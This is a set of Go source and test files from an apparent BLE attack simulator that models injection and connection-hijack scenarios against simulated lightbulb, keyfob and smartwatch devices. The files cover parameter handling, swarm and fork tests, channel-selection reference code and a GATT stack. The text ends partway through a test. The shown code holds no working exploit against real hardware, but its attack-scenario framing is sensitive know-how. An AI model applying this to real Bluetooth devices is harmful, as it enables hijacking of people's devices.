
// field describes one Params entry for diffing, shrinking and overriding.
type field struct {
	name  string
	get   func(*Params) string
	set   func(*Params, string) error
	equal func(a, b *Params) bool
}

func fields() []field {
	s := func(get func(*Params) *string) field {
		return field{
			get: func(p *Params) string { return *get(p) },
			set: func(p *Params, v string) error { *get(p) = v; return nil },
			equal: func(a, b *Params) bool { return *get(a) == *get(b) },
		}
	}
	f64 := func(get func(*Params) *float64) field {
		return field{
			get: func(p *Params) string { return strconv.FormatFloat(*get(p), 'g', -1, 64) },
			set: func(p *Params, v string) error {
				x, err := strconv.ParseFloat(v, 64)
				*get(p) = x
				return err
			},
			equal: func(a, b *Params) bool { return *get(a) == *get(b) },
		}
	}
	num := func(get func(*Params) *int) field {
		return field{
			get: func(p *Params) string { return strconv.Itoa(*get(p)) },
			set: func(p *Params, v string) error {
				x, err := strconv.Atoi(v)
				*get(p) = x
				return err
			},
			equal: func(a, b *Params) bool { return *get(a) == *get(b) },
		}
	}
	boolean := func(get func(*Params) *bool) field {
		return field{
			get: func(p *Params) string { return strconv.FormatBool(*get(p)) },
			set: func(p *Params, v string) error {
				x, err := strconv.ParseBool(v)
				*get(p) = x
				return err
			},
			equal: func(a, b *Params) bool { return *get(a) == *get(b) },
		}
	}
	named := func(name string, f field) field { f.name = name; return f }

	return []field{
		named("target", s(func(p *Params) *string { return &p.Target })),
		named("scenario", s(func(p *Params) *string { return &p.Scenario })),
		named("interval", field{
			get: func(p *Params) string { return strconv.Itoa(int(p.Interval)) },
			set: func(p *Params, v string) error {
				x, err := strconv.Atoi(v)
				p.Interval = uint16(x)
				return err
			},
			equal: func(a, b *Params) bool { return a.Interval == b.Interval },
		}),
		named("latency", field{
			get: func(p *Params) string { return strconv.Itoa(int(p.Latency)) },
			set: func(p *Params, v string) error {
				x, err := strconv.Atoi(v)
				p.Latency = uint16(x)
				return err
			},
			equal: func(a, b *Params) bool { return a.Latency == b.Latency },
		}),
		named("hop", field{
			get: func(p *Params) string { return strconv.Itoa(int(p.Hop)) },
			set: func(p *Params, v string) error {
				x, err := strconv.Atoi(v)
				p.Hop = uint8(x)
				return err
			},
			equal: func(a, b *Params) bool { return a.Hop == b.Hop },
		}),
		named("csa2", boolean(func(p *Params) *bool { return &p.CSA2 })),
		named("unusedChans", num(func(p *Params) *int { return &p.UnusedChans })),
		named("targetPPM", f64(func(p *Params) *float64 { return &p.TargetPPM })),
		named("phonePPM", f64(func(p *Params) *float64 { return &p.PhonePPM })),
		named("targetJitterUS", f64(func(p *Params) *float64 { return &p.TargetJitterUS })),
		named("phoneJitterUS", f64(func(p *Params) *float64 { return &p.PhoneJitterUS })),
		named("phoneDist", f64(func(p *Params) *float64 { return &p.PhoneDist })),
		named("attackerDist", f64(func(p *Params) *float64 { return &p.AttackerDist })),
		named("activityMS", num(func(p *Params) *int { return &p.ActivityMS })),
		named("bystander", boolean(func(p *Params) *bool { return &p.Bystander })),
		named("jammer", boolean(func(p *Params) *bool { return &p.Jammer })),
		named("ids", boolean(func(p *Params) *bool { return &p.IDS })),
		named("wideningScale", f64(func(p *Params) *float64 { return &p.WideningScale })),
		named("runSeconds", num(func(p *Params) *int { return &p.RunSeconds })),
		named("breakWidening", f64(func(p *Params) *float64 { return &p.BreakWidening })),
	}
}

// Set overrides one field by name ("interval=7" style key and value).
func (p *Params) Set(key, value string) error {
	for _, f := range fields() {
		if f.name == key {
			if err := f.set(p, value); err != nil {
				return fmt.Errorf("simtest: bad value %q for %s: %v", value, key, err)
			}
			return nil
		}
	}
	return fmt.Errorf("simtest: unknown parameter %q (known: %s)", key, strings.Join(FieldNames(), ", "))
}

// FieldNames lists the overridable parameter names in stable order.
func FieldNames() []string {
	var names []string
	for _, f := range fields() {
		names = append(names, f.name)
	}
	sort.Strings(names)
	return names
}

// Diff returns the fields of p that differ from DefaultParams, rendered as
// "name=value" strings in declaration order.
func (p Params) Diff() []string {
	def := DefaultParams()
	var out []string
	for _, f := range fields() {
		if !f.equal(&p, &def) {
			out = append(out, f.name+"="+f.get(&p))
		}
	}
	return out
}

// String renders the non-default parameters (or "defaults").
func (p Params) String() string {
	d := p.Diff()
	if len(d) == 0 {
		return "defaults"
	}
	return strings.Join(d, " ")
}

// validate rejects parameter vectors the world builder cannot realise.
func (p Params) validate() error {
	switch p.Target {
	case "lightbulb", "keyfob", "smartwatch":
	default:
		return fmt.Errorf("simtest: unknown target %q", p.Target)
	}
	switch p.Scenario {
	case "none", "inject", "hijack-slave", "hijack-master":
	default:
		return fmt.Errorf("simtest: unknown scenario %q", p.Scenario)
	}
	if p.Interval < 6 {
		return fmt.Errorf("simtest: interval %d below spec minimum 6", p.Interval)
	}
	if p.Hop < 5 || p.Hop > 16 {
		return fmt.Errorf("simtest: hop %d outside 5..16", p.Hop)
	}
	if p.UnusedChans < 0 || p.UnusedChans > 35 {
		return fmt.Errorf("simtest: unusedChans %d outside 0..35", p.UnusedChans)
	}
	if p.RunSeconds <= 0 {
		return fmt.Errorf("simtest: runSeconds must be positive")
	}
	return nil
}
