package simtest

import (
	"fmt"

	"injectable/internal/campaign"
)

// SwarmConfig configures a randomized-world swarm.
type SwarmConfig struct {
	// SeedBase is the first world seed; world i runs seed SeedBase+i.
	SeedBase uint64
	// Worlds is how many consecutive seeds to run.
	Worlds int
	// Parallel bounds worker concurrency (0 = GOMAXPROCS). Results are
	// identical for every value — the campaign pool collates by ordinal.
	Parallel int
	// Fork, when set, runs every world through the fork-equivalence check
	// (RunWorldFork): each world is snapshotted at a seed-derived mid-run
	// instant, run to its horizon, rolled back and replayed, and any
	// timeline divergence is reported as a "fork-divergence" violation.
	Fork bool
	// Mutate, when set, adjusts each generated parameter vector before the
	// world runs (used for fault injection and targeted swarms).
	Mutate func(*Params)
	// OnResult streams results in seed order as worlds complete.
	OnResult func(Result)
}

// SwarmSummary aggregates a swarm run.
type SwarmSummary struct {
	Worlds    int
	Connected int
	// ByScenario counts worlds per attacker scenario.
	ByScenario map[string]int
	// Failures holds every failing world's result, in seed order.
	Failures []Result
	// Errors holds construction/panic failures (distinct from invariant
	// violations), in seed order.
	Errors []error
}

// Failed reports whether any world violated an invariant or crashed.
func (s SwarmSummary) Failed() bool { return len(s.Failures) > 0 || len(s.Errors) > 0 }

// Swarm runs cfg.Worlds randomized worlds under the invariant engine on
// the campaign pool. Worlds are independent and deterministic per seed, so
// the summary is identical at any Parallel setting.
func Swarm(cfg SwarmConfig) (SwarmSummary, error) {
	if cfg.Worlds <= 0 {
		return SwarmSummary{}, fmt.Errorf("simtest: swarm needs at least one world")
	}
	sum := SwarmSummary{Worlds: cfg.Worlds, ByScenario: make(map[string]int)}
	runWorld := RunWorld
	if cfg.Fork {
		runWorld = RunWorldFork
	}
	spec := &campaign.Spec{
		Name:     "simtest-swarm",
		SeedBase: cfg.SeedBase,
		Points: []campaign.Point{{
			Label:  "world",
			Trials: cfg.Worlds,
			Seed:   func(i int) uint64 { return cfg.SeedBase + uint64(i) },
			Run: func(t campaign.Trial) (any, error) {
				p := Generate(t.Seed)
				if cfg.Mutate != nil {
					cfg.Mutate(&p)
				}
				return runWorld(t.Seed, p)
			},
		}},
	}
	collect := campaign.OnResult(func(r campaign.Result) {
		if r.Err != nil {
			sum.Errors = append(sum.Errors, fmt.Errorf("simtest: seed %d: %w", r.Seed, r.Err))
			return
		}
		res := r.Value.(Result)
		sum.ByScenario[res.Params.Scenario]++
		if res.Connected {
			sum.Connected++
		}
		if res.Failed() {
			sum.Failures = append(sum.Failures, res)
		}
		if cfg.OnResult != nil {
			cfg.OnResult(res)
		}
	})
	runner := &campaign.Runner{Workers: cfg.Parallel, Sinks: []campaign.Sink{collect}}
	if _, err := runner.Run(spec); err != nil {
		return sum, err
	}
	return sum, nil
}
