package simtest

import (
	"strings"
	"testing"
)

// TestForkCheckScenarios forks one world of every attacker scenario and
// requires the replayed timeline to match the continued one exactly.
func TestForkCheckScenarios(t *testing.T) {
	for _, scenario := range Scenarios() {
		t.Run(scenario, func(t *testing.T) {
			p := DefaultParams()
			p.Scenario = scenario
			rep, err := ForkCheck(11, p)
			if err != nil {
				t.Fatal(err)
			}
			if !rep.Match {
				t.Fatalf("fork diverged at snapshot t=%v:\ncontinued: %s\nforked:    %s",
					rep.SnapAt, rep.Continued, rep.Forked)
			}
			if rep.Result.Failed() {
				t.Fatalf("forked timeline broke invariants: %v", rep.Result.Violations)
			}
		})
	}
}

// TestForkCheckHijackMasterSeed35 pins the seed that exposed the adopted
// master connection escaping the snapshot (it was reachable only through
// scheduler closures, so a fork replayed it with a stale channel cursor
// and starved the slave).
func TestForkCheckHijackMasterSeed35(t *testing.T) {
	p := DefaultParams()
	p.Scenario = "hijack-master"
	rep, err := ForkCheck(35, p)
	if err != nil {
		t.Fatal(err)
	}
	if !rep.Match {
		t.Fatalf("fork diverged:\ncontinued: %s\nforked:    %s", rep.Continued, rep.Forked)
	}
	if !rep.Result.AttackSuccess {
		t.Fatal("world stopped exercising the master hijack — pick a new pin seed")
	}
}

// TestForkSwarmGeneratedWorlds runs generated worlds (jammers, bystanders,
// IDS, every scenario) through the fork-equivalence swarm.
func TestForkSwarmGeneratedWorlds(t *testing.T) {
	worlds := 40
	if testing.Short() {
		worlds = 12
	}
	sum, err := Swarm(SwarmConfig{SeedBase: 1, Worlds: worlds, Fork: true})
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range sum.Errors {
		t.Errorf("world error: %v", e)
	}
	for _, f := range sum.Failures {
		t.Errorf("seed %d (%v): first violation: %v\nrepro: go run ./cmd/simtest -seed %d -fork",
			f.Seed, f.Params, f.Violations[0], f.Seed)
	}
	if sum.Connected < worlds/2 {
		t.Fatalf("only %d/%d worlds connected", sum.Connected, worlds)
	}
}

// TestRunWorldForkFoldsDivergenceIntoViolations checks the plumbing that
// turns a fingerprint mismatch into a shrinkable violation.
func TestRunWorldForkFoldsDivergenceIntoViolations(t *testing.T) {
	detail := forkDiffDetail("a\nwindows=3\nc", "a\nwindows=9\nc")
	if !strings.Contains(detail, "line 2") ||
		!strings.Contains(detail, "windows=3") || !strings.Contains(detail, "windows=9") {
		t.Fatalf("diff detail does not point at the divergence: %q", detail)
	}
	detail = forkDiffDetail("a\nb", "a\nb\nc")
	if !strings.Contains(detail, "length") {
		t.Fatalf("length-only divergence not reported: %q", detail)
	}
}

// TestShrinkForkReproCarriesFlag: a shrunk fork failure must print a repro
// command that reruns under the fork-equivalence runner.
func TestShrinkForkReproCarriesFlag(t *testing.T) {
	s := ShrinkResult{Seed: 35, Fork: true}
	if cmd := s.ReproCommand(); !strings.Contains(cmd, "-fork") {
		t.Fatalf("fork shrink repro lost the -fork flag: %q", cmd)
	}
	s.Fork = false
	if cmd := s.ReproCommand(); strings.Contains(cmd, "-fork") {
		t.Fatalf("plain shrink repro gained a -fork flag: %q", cmd)
	}
}
