package simtest

import (
	"fmt"
	"strings"
)

// ShrinkResult is a minimised failing world.
type ShrinkResult struct {
	Seed uint64
	// Initial is the original failing run, Final the run of the minimal
	// parameter vector (still failing, by construction).
	Initial Result
	Final   Result
	// Minimal is the smallest parameter vector found that still fails;
	// Minimal.Diff() lists the fields that matter.
	Minimal Params
	// Runs counts world executions spent shrinking (including the first).
	Runs int
	// Fork marks a shrink under the fork-equivalence runner; the repro
	// command carries the -fork flag.
	Fork bool
}

// ReproCommand renders the one-line reproduction for the minimal world.
func (s ShrinkResult) ReproCommand() string {
	parts := []string{fmt.Sprintf("go run ./cmd/simtest -seed %d -base", s.Seed)}
	if s.Fork {
		parts = append(parts, "-fork")
	}
	for _, d := range s.Minimal.Diff() {
		parts = append(parts, "-p "+d)
	}
	return strings.Join(parts, " ")
}

// Shrink greedily minimises a failing world: each non-default parameter is
// reset to its default and the world rerun; resets that keep the failure
// stick. The pass repeats until a fixed point (resetting one field can
// unlock resetting another). The result is 1-minimal: putting back any
// single remaining field makes the failure disappear.
//
// If the initial world does not fail, the result's Final is that passing
// run and Minimal equals the input — callers check Final.Failed().
func Shrink(seed uint64, p Params) (ShrinkResult, error) {
	return shrinkWith(RunWorld, seed, p, false)
}

// ShrinkFork is Shrink under the fork-equivalence runner: the failure
// being minimised is "this world's fork replay diverges (or breaks an
// invariant)", and the repro command carries -fork.
func ShrinkFork(seed uint64, p Params) (ShrinkResult, error) {
	return shrinkWith(RunWorldFork, seed, p, true)
}

// shrinkWith is the shrink loop over an arbitrary world runner.
func shrinkWith(run func(uint64, Params) (Result, error), seed uint64, p Params, fork bool) (ShrinkResult, error) {
	initial, err := run(seed, p)
	if err != nil {
		return ShrinkResult{}, err
	}
	out := ShrinkResult{Seed: seed, Initial: initial, Final: initial, Minimal: p, Runs: 1, Fork: fork}
	if !initial.Failed() {
		return out, nil
	}

	def := DefaultParams()
	cur, curRes := p, initial
	for changed := true; changed; {
		changed = false
		for _, f := range fields() {
			if f.equal(&cur, &def) {
				continue
			}
			cand := cur
			if err := f.set(&cand, f.get(&def)); err != nil {
				continue
			}
			r, err := run(seed, cand)
			out.Runs++
			if err != nil {
				continue // reset produced an unrealisable vector; keep the field
			}
			if r.Failed() {
				cur, curRes = cand, r
				changed = true
			}
		}
	}
	out.Minimal, out.Final = cur, curRes
	return out, nil
}
