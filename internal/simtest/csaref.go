package simtest

// Independent reference implementations of both channel selection
// algorithms, written against spec Vol 6 Part B §4.5.8 rather than against
// internal/ble/csa. The csa-channel invariant compares the stack's observed
// hop sequence with these, so a shared bug would have to be introduced
// twice to go unnoticed.

import "injectable/internal/ble"

// refUsedChannels lists the used data channels of a map in ascending order.
func refUsedChannels(m ble.ChannelMap) []uint8 {
	var used []uint8
	for ch := uint8(0); ch < 37; ch++ {
		if m&(1<<ch) != 0 {
			used = append(used, ch)
		}
	}
	return used
}

// refCSA1Channel computes the CSA#1 data channel for a connection event.
// The simulated stack starts connections from unmapped channel 0, so the
// unmapped channel of event e is (e+1)·hop mod 37.
func refCSA1Channel(event uint16, hop uint8, m ble.ChannelMap) uint8 {
	un := uint8(((uint32(event) + 1) * uint32(hop)) % 37)
	if m&(1<<un) != 0 {
		return un
	}
	used := refUsedChannels(m)
	return used[int(un)%len(used)]
}

// refCSA2Channel computes the CSA#2 data channel for a connection event
// (spec Vol 6 Part B §4.5.8.3).
func refCSA2Channel(event uint16, aa ble.AccessAddress, m ble.ChannelMap) uint8 {
	channelID := uint16(uint32(aa)>>16) ^ uint16(uint32(aa))
	x := event ^ channelID
	for round := 0; round < 3; round++ {
		x = refPermute(x)
		x = 17*x + channelID // MAM mod 2^16 via uint16 wraparound
	}
	prn := x ^ channelID
	un := uint8(prn % 37)
	if m&(1<<un) != 0 {
		return un
	}
	used := refUsedChannels(m)
	idx := (uint32(len(used)) * uint32(prn)) >> 16
	return used[idx]
}

// refPermute bit-reverses each byte of x.
func refPermute(x uint16) uint16 {
	var out uint16
	for bit := 0; bit < 8; bit++ {
		if x&(1<<bit) != 0 {
			out |= 1 << (7 - bit)
		}
		if x&(1<<(8+bit)) != 0 {
			out |= 1 << (15 - bit)
		}
	}
	return out
}
