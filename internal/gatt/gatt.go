// Package gatt implements the Generic Attribute Profile on top of ATT:
// service and characteristic declaration on the server side, and service /
// characteristic discovery, reads, writes and subscriptions on the client
// side.
//
// The simulated commercial devices of the paper's evaluation (lightbulb,
// keyfob, smartwatch) are GATT servers built with this package, and the
// attack scenarios interact with them exactly as the paper does: by
// injecting ATT requests that target their characteristic value handles.
package gatt

import (
	"fmt"

	"injectable/internal/att"
)

// Property is the characteristic property bitmask.
type Property uint8

// Characteristic properties.
const (
	PropBroadcast       Property = 0x01
	PropRead            Property = 0x02
	PropWriteNoResponse Property = 0x04
	PropWrite           Property = 0x08
	PropNotify          Property = 0x10
	PropIndicate        Property = 0x20
)

// Has reports whether p includes all bits of q.
func (p Property) Has(q Property) bool { return p&q == q }

// String implements fmt.Stringer.
func (p Property) String() string {
	names := []struct {
		bit  Property
		name string
	}{
		{PropBroadcast, "broadcast"}, {PropRead, "read"},
		{PropWriteNoResponse, "write-no-rsp"}, {PropWrite, "write"},
		{PropNotify, "notify"}, {PropIndicate, "indicate"},
	}
	out := ""
	for _, n := range names {
		if p.Has(n.bit) {
			if out != "" {
				out += "|"
			}
			out += n.name
		}
	}
	if out == "" {
		return "none"
	}
	return out
}

// Characteristic is one GATT characteristic.
type Characteristic struct {
	UUID       att.UUID
	Properties Property
	Value      []byte
	// Secure requires an encrypted link for value access.
	Secure bool
	// OnWrite observes accepted writes to the value.
	OnWrite func(value []byte)
	// OnRead, when set, produces the value dynamically.
	OnRead func() []byte

	// Handles assigned at registration.
	DeclHandle  uint16
	ValueHandle uint16
	CCCDHandle  uint16 // zero if no notify/indicate

	valueAttr *att.Attribute
	cccdAttr  *att.Attribute
}

// Notifying reports whether the client enabled notifications via the CCCD.
func (c *Characteristic) Notifying() bool {
	return c.cccdAttr != nil && len(c.cccdAttr.Value) >= 1 && c.cccdAttr.Value[0]&0x01 != 0
}

// Service is a GATT primary service.
type Service struct {
	UUID            att.UUID
	Characteristics []*Characteristic

	StartHandle uint16
	EndHandle   uint16
}

// Server is a GATT server over an ATT database.
type Server struct {
	db       *att.DB
	att      *att.Server
	services []*Service
}

// NewServer builds an empty GATT server; send transmits ATT PDUs.
func NewServer(send func([]byte)) *Server {
	db := att.NewDB()
	return &Server{db: db, att: att.NewServer(db, send)}
}

// ATT returns the underlying ATT server (for wiring encryption state and
// PDU delivery).
func (s *Server) ATT() *att.Server { return s.att }

// DB exposes the attribute database (the IDS and tests inspect it).
func (s *Server) DB() *att.DB { return s.db }

// Services lists registered services.
func (s *Server) Services() []*Service { return s.services }

// HandlePDU feeds one ATT PDU from the L2CAP channel.
func (s *Server) HandlePDU(b []byte) { s.att.HandlePDU(b) }

// AddService registers a service and its characteristics, assigning
// handles.
func (s *Server) AddService(svc *Service) *Service {
	decl := s.db.Add(att.UUIDPrimaryService, svc.UUID.Bytes(), att.ReadOnly)
	svc.StartHandle = decl.Handle
	for _, ch := range svc.Characteristics {
		s.addCharacteristic(ch)
	}
	if n := s.db.All(); len(n) > 0 {
		svc.EndHandle = n[len(n)-1].Handle
	}
	s.services = append(s.services, svc)
	return svc
}

func (s *Server) addCharacteristic(ch *Characteristic) {
	// Declaration: properties ∥ value handle ∥ UUID. The value handle is
	// patched in once known (always declaration handle + 1 here).
	declValue := append([]byte{byte(ch.Properties), 0, 0}, ch.UUID.Bytes()...)
	decl := s.db.Add(att.UUIDCharacteristic, declValue, att.ReadOnly)
	ch.DeclHandle = decl.Handle

	perms := att.Permissions{
		Read:  ch.Properties.Has(PropRead),
		Write: ch.Properties&(PropWrite|PropWriteNoResponse) != 0,
	}
	if ch.Secure {
		perms.ReadRequiresEncryption = true
		perms.WriteRequiresEncryption = true
	}
	value := s.db.Add(ch.UUID, ch.Value, perms)
	ch.ValueHandle = value.Handle
	ch.valueAttr = value
	value.OnWrite = func(v []byte) {
		ch.Value = append(ch.Value[:0], v...)
		if ch.OnWrite != nil {
			ch.OnWrite(v)
		}
	}
	if ch.OnRead != nil {
		value.OnRead = ch.OnRead
	}
	decl.Value[1] = byte(ch.ValueHandle)
	decl.Value[2] = byte(ch.ValueHandle >> 8)

	if ch.Properties&(PropNotify|PropIndicate) != 0 {
		cccd := s.db.Add(att.UUIDCCCD, []byte{0, 0}, att.ReadWrite)
		ch.CCCDHandle = cccd.Handle
		ch.cccdAttr = cccd
	}
}

// SetValue updates a characteristic value and notifies if subscribed.
func (s *Server) SetValue(ch *Characteristic, value []byte) {
	ch.Value = append(ch.Value[:0], value...)
	if ch.valueAttr != nil {
		ch.valueAttr.Value = append(ch.valueAttr.Value[:0], value...)
	}
	if ch.Notifying() {
		s.att.Notify(ch.ValueHandle, value)
	}
}

// Notify pushes a value to the client regardless of the stored value.
func (s *Server) Notify(ch *Characteristic, value []byte) {
	if ch.Notifying() {
		s.att.Notify(ch.ValueHandle, value)
	}
}

// FindCharacteristic locates a characteristic by UUID across services.
func (s *Server) FindCharacteristic(u att.UUID) *Characteristic {
	for _, svc := range s.services {
		for _, ch := range svc.Characteristics {
			if ch.UUID == u {
				return ch
			}
		}
	}
	return nil
}

// String implements fmt.Stringer.
func (s *Server) String() string {
	return fmt.Sprintf("gatt.Server(%d services, %d attributes)", len(s.services), s.db.Len())
}
