package gatt

import (
	"errors"

	"injectable/internal/att"
)

// RemoteCharacteristic is a characteristic discovered on a peer.
type RemoteCharacteristic struct {
	UUID        att.UUID
	Properties  Property
	DeclHandle  uint16
	ValueHandle uint16
	CCCDHandle  uint16 // zero when not discovered
}

// RemoteService is a service discovered on a peer.
type RemoteService struct {
	UUID            att.UUID
	StartHandle     uint16
	EndHandle       uint16
	Characteristics []*RemoteCharacteristic
}

// Client wraps an ATT client with GATT discovery procedures.
type Client struct {
	att *att.Client

	// OnNotification receives subscribed characteristic updates.
	OnNotification func(valueHandle uint16, value []byte)
}

// NewClient builds a GATT client over an ATT client.
func NewClient(a *att.Client) *Client {
	c := &Client{att: a}
	a.OnNotification = func(h uint16, v []byte) {
		if c.OnNotification != nil {
			c.OnNotification(h, v)
		}
	}
	return c
}

// ATT returns the underlying ATT client.
func (c *Client) ATT() *att.Client { return c.att }

// DiscoverServices walks the peer's primary services.
func (c *Client) DiscoverServices(cb func([]*RemoteService, error)) {
	var out []*RemoteService
	var step func(start uint16)
	step = func(start uint16) {
		c.att.ReadByGroupType(start, 0xFFFF, att.UUIDPrimaryService, func(gv []att.GroupValue, err error) {
			var attErr *att.Error
			if errors.As(err, &attErr) && attErr.Code == att.ErrAttributeNotFound {
				cb(out, nil)
				return
			}
			if err != nil {
				cb(nil, err)
				return
			}
			var last uint16
			for _, g := range gv {
				u, uerr := att.UUIDFromBytes(g.Value)
				if uerr != nil {
					cb(nil, uerr)
					return
				}
				out = append(out, &RemoteService{UUID: u, StartHandle: g.Start, EndHandle: g.End})
				last = g.End
			}
			if last == 0xFFFF || len(gv) == 0 {
				cb(out, nil)
				return
			}
			step(last + 1)
		})
	}
	step(1)
}

// DiscoverCharacteristics walks a service's characteristics, including
// their CCCD handles.
func (c *Client) DiscoverCharacteristics(svc *RemoteService, cb func([]*RemoteCharacteristic, error)) {
	var out []*RemoteCharacteristic
	assignCCCD := func(info att.FoundInfo) {
		for _, ch := range out {
			nextDecl := uint16(0xFFFF)
			for _, other := range out {
				if other.DeclHandle > ch.DeclHandle && other.DeclHandle < nextDecl {
					nextDecl = other.DeclHandle
				}
			}
			if info.Handle > ch.ValueHandle && info.Handle < nextDecl {
				ch.CCCDHandle = info.Handle
			}
		}
	}
	finish := func() {
		svc.Characteristics = out
		// CCCDs: find 0x2902 descriptors between each characteristic's
		// value handle and the next declaration. Find Information responses
		// are MTU-bounded, so paginate until the range is covered.
		var scan func(start uint16)
		scan = func(start uint16) {
			c.att.FindInformation(start, svc.EndHandle, func(fi []att.FoundInfo, err error) {
				if err != nil || len(fi) == 0 {
					cb(out, nil)
					return
				}
				last := start
				for _, info := range fi {
					if info.Type == att.UUIDCCCD {
						assignCCCD(info)
					}
					last = info.Handle
				}
				if last >= svc.EndHandle || last == 0xFFFF {
					cb(out, nil)
					return
				}
				scan(last + 1)
			})
		}
		scan(svc.StartHandle)
	}
	var step func(start uint16)
	step = func(start uint16) {
		c.att.ReadByType(start, svc.EndHandle, att.UUIDCharacteristic, func(tv []att.TypeValue, err error) {
			var attErr *att.Error
			if errors.As(err, &attErr) && attErr.Code == att.ErrAttributeNotFound {
				finish()
				return
			}
			if err != nil {
				cb(nil, err)
				return
			}
			var last uint16
			for _, v := range tv {
				if len(v.Value) < 3 {
					continue
				}
				u, uerr := att.UUIDFromBytes(v.Value[3:])
				if uerr != nil {
					continue
				}
				out = append(out, &RemoteCharacteristic{
					UUID:        u,
					Properties:  Property(v.Value[0]),
					DeclHandle:  v.Handle,
					ValueHandle: uint16(v.Value[1]) | uint16(v.Value[2])<<8,
				})
				last = v.Handle
			}
			if last >= svc.EndHandle || len(tv) == 0 {
				finish()
				return
			}
			step(last + 1)
		})
	}
	step(svc.StartHandle)
}

// Read reads a characteristic value by handle.
func (c *Client) Read(valueHandle uint16, cb func([]byte, error)) {
	c.att.Read(valueHandle, func(r att.Response) { cb(r.Value, r.Err) })
}

// Write writes a characteristic value (with response).
func (c *Client) Write(valueHandle uint16, value []byte, cb func(error)) {
	c.att.Write(valueHandle, value, func(r att.Response) { cb(r.Err) })
}

// WriteCommand writes without response.
func (c *Client) WriteCommand(valueHandle uint16, value []byte) {
	c.att.WriteCommand(valueHandle, value)
}

// Subscribe enables notifications via the characteristic's CCCD.
func (c *Client) Subscribe(ch *RemoteCharacteristic, cb func(error)) {
	if ch.CCCDHandle == 0 {
		cb(errors.New("gatt: characteristic has no CCCD"))
		return
	}
	c.att.Write(ch.CCCDHandle, []byte{0x01, 0x00}, func(r att.Response) { cb(r.Err) })
}

// HandlePDU feeds one ATT PDU from the L2CAP channel.
func (c *Client) HandlePDU(b []byte) { c.att.HandlePDU(b) }
