package gatt

import (
	"bytes"
	"testing"

	"injectable/internal/att"
)

// wire builds a GATT server and client connected synchronously.
func wire() (*Server, *Client) {
	var srv *Server
	var cli *Client
	srv = NewServer(func(b []byte) { cli.HandlePDU(b) })
	cli = NewClient(att.NewClient(func(b []byte) { srv.HandlePDU(b) }))
	return srv, cli
}

// bulbServer registers a lightbulb-like profile and returns the power
// characteristic.
func bulbServer(srv *Server) (*Characteristic, *Characteristic) {
	power := &Characteristic{
		UUID:       att.UUID16(0xFF01),
		Properties: PropRead | PropWrite | PropWriteNoResponse,
		Value:      []byte{0x00},
	}
	color := &Characteristic{
		UUID:       att.UUID16(0xFF02),
		Properties: PropRead | PropWrite | PropNotify,
		Value:      []byte{255, 255, 255},
	}
	srv.AddService(&Service{
		UUID:            att.UUID16(0x1800),
		Characteristics: []*Characteristic{},
	})
	srv.AddService(&Service{
		UUID:            att.UUID16(0xFF00),
		Characteristics: []*Characteristic{power, color},
	})
	return power, color
}

func TestServiceRegistrationAssignsHandles(t *testing.T) {
	srv, _ := wire()
	power, color := bulbServer(srv)
	if power.DeclHandle == 0 || power.ValueHandle != power.DeclHandle+1 {
		t.Fatalf("power handles: %+v", power)
	}
	if color.CCCDHandle != color.ValueHandle+1 {
		t.Fatalf("color CCCD handle: %+v", color)
	}
	if power.CCCDHandle != 0 {
		t.Fatal("power should have no CCCD")
	}
	svcs := srv.Services()
	if len(svcs) != 2 {
		t.Fatalf("%d services", len(svcs))
	}
	if svcs[1].EndHandle <= svcs[1].StartHandle {
		t.Fatalf("service range %d..%d", svcs[1].StartHandle, svcs[1].EndHandle)
	}
}

func TestDiscoverServices(t *testing.T) {
	srv, cli := wire()
	bulbServer(srv)
	var got []*RemoteService
	cli.DiscoverServices(func(s []*RemoteService, err error) {
		if err != nil {
			t.Fatal(err)
		}
		got = s
	})
	if len(got) != 2 {
		t.Fatalf("discovered %d services", len(got))
	}
	if !got[0].UUID.Is16() || got[0].UUID.Uint16() != 0x1800 {
		t.Fatalf("service 0 = %v", got[0].UUID)
	}
	if got[1].UUID.Uint16() != 0xFF00 {
		t.Fatalf("service 1 = %v", got[1].UUID)
	}
}

func TestDiscoverCharacteristics(t *testing.T) {
	srv, cli := wire()
	power, color := bulbServer(srv)
	var svc *RemoteService
	cli.DiscoverServices(func(s []*RemoteService, err error) { svc = s[1] })
	var chars []*RemoteCharacteristic
	cli.DiscoverCharacteristics(svc, func(cs []*RemoteCharacteristic, err error) {
		if err != nil {
			t.Fatal(err)
		}
		chars = cs
	})
	if len(chars) != 2 {
		t.Fatalf("discovered %d characteristics", len(chars))
	}
	if chars[0].ValueHandle != power.ValueHandle {
		t.Fatalf("power value handle %d != %d", chars[0].ValueHandle, power.ValueHandle)
	}
	if !chars[0].Properties.Has(PropWrite) || chars[0].Properties.Has(PropNotify) {
		t.Fatalf("power properties %v", chars[0].Properties)
	}
	if chars[1].CCCDHandle != color.CCCDHandle {
		t.Fatalf("color CCCD %d != %d", chars[1].CCCDHandle, color.CCCDHandle)
	}
}

func TestReadWriteCharacteristic(t *testing.T) {
	srv, cli := wire()
	power, _ := bulbServer(srv)
	writes := 0
	power.OnWrite = func(v []byte) { writes++ }

	var val []byte
	cli.Read(power.ValueHandle, func(v []byte, err error) {
		if err != nil {
			t.Fatal(err)
		}
		val = v
	})
	if !bytes.Equal(val, []byte{0x00}) {
		t.Fatalf("initial = % x", val)
	}
	cli.Write(power.ValueHandle, []byte{0x01}, func(err error) {
		if err != nil {
			t.Fatal(err)
		}
	})
	if power.Value[0] != 0x01 || writes != 1 {
		t.Fatalf("value=% x writes=%d", power.Value, writes)
	}
	cli.WriteCommand(power.ValueHandle, []byte{0x02})
	if power.Value[0] != 0x02 || writes != 2 {
		t.Fatal("write command not applied")
	}
}

func TestNotificationsViaCCCD(t *testing.T) {
	srv, cli := wire()
	_, color := bulbServer(srv)
	var got []byte
	cli.OnNotification = func(h uint16, v []byte) {
		if h == color.ValueHandle {
			got = append([]byte(nil), v...)
		}
	}
	// Before subscribing: SetValue must not notify.
	srv.SetValue(color, []byte{1, 2, 3})
	if got != nil {
		t.Fatal("notified without subscription")
	}
	if color.Notifying() {
		t.Fatal("Notifying true before subscribe")
	}
	rc := &RemoteCharacteristic{ValueHandle: color.ValueHandle, CCCDHandle: color.CCCDHandle}
	cli.Subscribe(rc, func(err error) {
		if err != nil {
			t.Fatal(err)
		}
	})
	if !color.Notifying() {
		t.Fatal("Notifying false after subscribe")
	}
	srv.SetValue(color, []byte{9, 8, 7})
	if !bytes.Equal(got, []byte{9, 8, 7}) {
		t.Fatalf("notification = % x", got)
	}
}

func TestSubscribeWithoutCCCD(t *testing.T) {
	_, cli := wire()
	called := false
	cli.Subscribe(&RemoteCharacteristic{}, func(err error) { called = err != nil })
	if !called {
